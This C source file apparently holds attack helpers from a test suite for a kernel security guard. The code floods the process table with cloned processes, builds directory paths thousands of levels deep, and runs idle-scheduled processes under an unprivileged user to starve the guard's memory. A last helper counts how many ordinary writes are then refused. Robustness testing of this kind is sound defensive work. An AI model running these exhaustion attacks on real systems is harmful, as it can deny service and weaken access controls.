// SPDX-License-Identifier: Apache-2.0
/*
 * Making the guard not know: so many processes that a table of them is full, so many that stand still
 * in the middle of a guarded call that its working memory is gone.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int hold(void)
{
	char byte;

	printf("ready\n");
	fflush(stdout);
	while (read(STDIN_FILENO, &byte, 1) > 0)
		;
	return EXIT_DONE;
}

static int wait_for_end(void *nothing)
{
	(void)nothing;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;)
		pause();
	return 0;
}

/* Processes that share this one's memory: a kernel stack each, and next to nothing else. */
static int crowd(int argc, char **argv)
{
	enum { STACK = 4096 };
	int count = atoi(argv[1]), made;
	char *stacks = mmap(NULL, (size_t)count * STACK, PROT_READ | PROT_WRITE,
			    MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	(void)argc;
	if (stacks == MAP_FAILED)
		refused("mmap");
	for (made = 0; made < count; made++)
		if (clone(wait_for_end, stacks + (size_t)(made + 1) * STACK, CLONE_VM | SIGCHLD,
			  NULL) < 0)
			break;
	fprintf(stderr, "%d processes\n", made);
	hold();
	_exit(EXIT_DONE);
}

/* Enters DEPTH directories below this one, each in the one before, and makes those that are missing. */
static void go_down(int depth, const char *name)
{
	for (int i = 0; i < depth; i++)
		if ((mkdir(name, 0755) && errno != EEXIST) || chdir(name))
			refused("mkdir");
}

/* Writes TEXT to a file DEPTH directories below DIRECTORY. */
static int write_deep(int argc, char **argv)
{
	int fd;

	(void)argc;
	if (chdir(argv[1]))
		refused(argv[1]);
	go_down(atoi(argv[2]), "d");
	fd = must(open("file", O_CREAT | O_WRONLY, 0644), "open");
	must(write(fd, argv[3], strlen(argv[3])), "write");
	return EXIT_DONE;
}

/*
 * COUNT processes of a user who is nobody else that are scheduled only when nothing else runs on CPU, and
 * read a file far down. Says so before: they may well use up what its own calls need, too.
 */
static int idle_crowd(int argc, char **argv)
{
	int count = atoi(argv[1]), fd;
	struct sched_param none = { 0 };
	char name[201], byte;

	(void)argc;
	if (chdir(argv[2]))
		refused(argv[2]);
	memset(name, 'd', 200);
	name[200] = 0;
	go_down(1500, name);
	fd = open("file", O_CREAT | O_RDWR, 0644);
	if (fd < 0 || write(fd, "x", 1) != 1)
		refused("write");
	pin_to_cpu(atoi(argv[3]));
	must(fchmod(fd, 0666), "fchmod");
	must(setuid(60001), "setuid");
	printf("ready\n");
	fflush(stdout);
	for (int i = 0; i < count; i++) {
		if (fork())
			continue;
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		must(sched_setscheduler(0, SCHED_IDLE, &none), "sched_setscheduler");
		/* A new open file each time: what is remembered of one would make it quick. */
		for (;;) {
			int file = open("file", O_RDWR);

			if (pread(file, &byte, 1, 0) < 0 && pwrite(file, "x", 1, 0) < 0)
				usleep(1000);
			close(file);
		}
	}
	for (;;)
		pause();
	return EXIT_DONE;
}

/* Writes to PATH COUNT times, on CPU, and prints how many of them the kernel refused. */
static int innocent(int argc, char **argv)
{
	int count = atoi(argv[1]), refusals = 0;

	(void)argc;
	pin_to_cpu(atoi(argv[3]));
	for (int i = 0; i < count; i++) {
		int fd = open(argv[2], O_WRONLY | O_CREAT | O_APPEND, 0644);

		if (fd < 0 || write(fd, "x", 1) != 1)
			refusals++;
		close(fd);
		usleep(2000);
	}
	printf("%d\n", refusals);
	return EXIT_DONE;
}

const struct command unknown_commands[] = {
	{ "crowd", "COUNT", crowd, 1 },
	{ "write-deep", "DIRECTORY DEPTH TEXT", write_deep, 3 },
	{ "idle-crowd", "COUNT DIRECTORY CPU", idle_crowd, 3 },
	{ "innocent-writes", "COUNT PATH CPU", innocent, 3 },
	{ NULL, NULL, NULL, 0 },
};
